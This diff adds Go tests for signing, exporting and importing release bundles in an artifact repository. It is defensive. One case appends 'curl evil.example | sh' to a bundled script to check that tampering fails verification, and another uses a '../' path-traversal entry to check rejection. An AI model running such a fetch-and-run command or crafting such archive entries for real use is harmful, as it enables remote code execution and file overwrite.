@@ -0,0 +1,277 @@
+package artifact
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"crypto/ed25519"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"reflect"
+	"runtime"
+	"testing"
+
+	"go.uber.org/zap"
+)
+
+// bundleTestAssets returns the assets of a release with a raw asset and an archive asset.
+func bundleTestAssets(t *testing.T, version string) []testEntry {
+	t.Helper()
+
+	platform := fmt.Sprintf("%s-%s", runtime.GOOS, runtime.GOARCH)
+	return []testEntry{
+		{name: "amphora-" + platform + ARCHIVE_ZIP, content: buildArchive(t, ARCHIVE_ZIP, []testEntry{
+			{name: "amphora-" + platform + "/amphora", content: fakeELF},
+			{name: "amphora-" + platform + "/LICENSE", content: []byte("MIT")},
+		})},
+		{name: "menmosd-" + platform, content: []byte("#!/bin/sh\necho menmosd " + version)},
+	}
+}
+
+func newBundleTestRepository(t *testing.T, sourceDir string, signingKey ed25519.PrivateKey, publicKeys ...ed25519.PublicKey) *Repository {
+	t.Helper()
+
+	fetcher, err := NewLocalFetcher(sourceDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return NewRepository(RepositoryParams{
+		ReleaseFetcher: fetcher,
+		Log:            zap.NewNop(),
+		Path:           t.TempDir(),
+		PublicKeys:     publicKeys,
+		SigningKey:     signingKey,
+	})
+}
+
+// exportBundle installs a version and exports it.
+func exportBundle(t *testing.T, r *Repository, version string) []byte {
+	t.Helper()
+
+	if _, err := r.Get(version, "menmosd"); err != nil {
+		t.Fatal(err)
+	}
+
+	var bundle bytes.Buffer
+	if err := r.Export(version, &bundle); err != nil {
+		t.Fatal(err)
+	}
+	return bundle.Bytes()
+}
+
+// rewriteBundle rewrites the entries of a bundle. Entries are dropped if rewrite returns an empty name.
+func rewriteBundle(t *testing.T, bundle []byte, rewrite func(name string, content []byte) (string, []byte)) []byte {
+	t.Helper()
+
+	gzipReader, err := gzip.NewReader(bytes.NewReader(bundle))
+	if err != nil {
+		t.Fatal(err)
+	}
+	reader := tar.NewReader(gzipReader)
+
+	var buf bytes.Buffer
+	gzipWriter := gzip.NewWriter(&buf)
+	writer := tar.NewWriter(gzipWriter)
+	for {
+		header, err := reader.Next()
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		content, err := io.ReadAll(reader)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		name, content := rewrite(header.Name, content)
+		if name == "" {
+			continue
+		}
+		if err := writer.WriteHeader(&tar.Header{Name: name, Mode: 0644, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		writer.Write(content)
+	}
+	writer.Close()
+	gzipWriter.Close()
+
+	return buf.Bytes()
+}
+
+func TestRepository_Bundle(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	sourceDir := t.TempDir()
+	writeRelease(t, sourceDir, "v1.0.0", bundleTestAssets(t, "v1.0.0")...)
+	bundle := exportBundle(t, newBundleTestRepository(t, sourceDir, privateKey), "v1.0.0")
+
+	// The importing repository has no release to fetch, like an air-gapped host.
+	r := newBundleTestRepository(t, t.TempDir(), nil, publicKey)
+	version, err := r.Import(bytes.NewReader(bundle))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if version != "v1.0.0" {
+		t.Errorf("expected version 'v1.0.0' to be imported, got '%s'", version)
+	}
+
+	info, err := r.Info("v1.0.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !info.Complete || !info.Verified || !reflect.DeepEqual(info.Binaries, []string{"amphora", "menmosd"}) {
+		t.Errorf("unexpected imported version %+v", info)
+	}
+
+	for name, want := range map[string][]byte{"amphora": fakeELF, "menmosd": []byte("#!/bin/sh\necho menmosd v1.0.0")} {
+		artifactPath, err := r.Get("v1.0.0", name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if content, _ := os.ReadFile(artifactPath); !bytes.Equal(content, want) {
+			t.Errorf("unexpected contents of '%s': %q", name, content)
+		}
+	}
+
+	// Importing an installed version does nothing.
+	if version, err := r.Import(bytes.NewReader(bundle)); err != nil || version != "v1.0.0" {
+		t.Errorf("expected a second import to succeed, got '%s', %v", version, err)
+	}
+
+	// Imported versions can be exported again.
+	var reexported bytes.Buffer
+	if err := r.Export("v1.0.0", &reexported); err != nil {
+		t.Errorf("failed to export an imported version: %v", err)
+	}
+}
+
+func TestRepository_ImportInvalidBundle(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	otherKey, _, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	sourceDir := t.TempDir()
+	writeRelease(t, sourceDir, "v1.0.0", bundleTestAssets(t, "v1.0.0")...)
+	signed := exportBundle(t, newBundleTestRepository(t, sourceDir, privateKey), "v1.0.0")
+	unsigned := exportBundle(t, newBundleTestRepository(t, sourceDir, nil), "v1.0.0")
+
+	menmosdAsset := fmt.Sprintf("menmosd-%s-%s", runtime.GOOS, runtime.GOARCH)
+
+	tests := []struct {
+		name       string
+		bundle     []byte
+		publicKeys []ed25519.PublicKey
+		wantErr    error
+	}{
+		{"untrustedKey", signed, []ed25519.PublicKey{otherKey}, ErrVerification},
+		{"unsignedWithTrustedKeys", unsigned, []ed25519.PublicKey{publicKey}, ErrVerification},
+		{"unsignedWithoutTrustedKeys", unsigned, nil, nil},
+		{
+			"tamperedAsset",
+			rewriteBundle(t, signed, func(name string, content []byte) (string, []byte) {
+				if name == menmosdAsset {
+					return name, append(content, []byte("\ncurl evil.example | sh")...)
+				}
+				return name, content
+			}),
+			[]ed25519.PublicKey{publicKey},
+			ErrVerification,
+		},
+		{
+			"relabeledVersion",
+			rewriteBundle(t, signed, func(name string, content []byte) (string, []byte) {
+				if name == BUNDLE_METADATA_FILE {
+					content, _ = json.Marshal(BundleMetadata{Version: "v9.0.0"})
+				}
+				return name, content
+			}),
+			[]ed25519.PublicKey{publicKey},
+			ErrVerification,
+		},
+		{
+			"unsafeEntry",
+			rewriteBundle(t, signed, func(name string, content []byte) (string, []byte) {
+				if name == menmosdAsset {
+					return "../" + name, content
+				}
+				return name, content
+			}),
+			nil,
+			ErrInvalidBundle,
+		},
+		{
+			"noMetadata",
+			rewriteBundle(t, signed, func(name string, content []byte) (string, []byte) {
+				if name == BUNDLE_METADATA_FILE {
+					return "", nil
+				}
+				return name, content
+			}),
+			nil,
+			ErrInvalidBundle,
+		},
+		{"notABundle", []byte("not a bundle"), nil, ErrInvalidBundle},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := newBundleTestRepository(t, t.TempDir(), nil, tt.publicKeys...)
+
+			_, err := r.Import(bytes.NewReader(tt.bundle))
+			if tt.wantErr == nil {
+				if err != nil {
+					t.Fatal(err)
+				}
+				return
+			}
+
+			if !errors.Is(err, tt.wantErr) {
+				t.Fatalf("expected error '%v', got '%v'", tt.wantErr, err)
+			}
+			if versions, err := r.List(); err != nil || len(versions) != 0 {
+				t.Errorf("expected no version to be installed, got %v, %v", versions, err)
+			}
+		})
+	}
+}
+
+func TestRepository_ExportInvalidVersion(t *testing.T) {
+	sourceDir := t.TempDir()
+	writeRelease(t, sourceDir, "v1.0.0", bundleTestAssets(t, "v1.0.0")...)
+	r := newBundleTestRepository(t, sourceDir, nil)
+
+	if err := r.Export("v1.0.0", io.Discard); !errors.Is(err, ErrNotInstalled) {
+		t.Errorf("expected a missing version not to be exported, got %v", err)
+	}
+
+	menmosdPath, err := r.Get("v1.0.0", "menmosd")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Keep the size of the file, so the version still looks complete.
+	content, err := os.ReadFile(menmosdPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(menmosdPath, bytes.ToUpper(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.Export("v1.0.0", io.Discard); !errors.Is(err, ErrVerification) {
+		t.Errorf("expected a tampered version not to be exported, got %v", err)
+	}
+}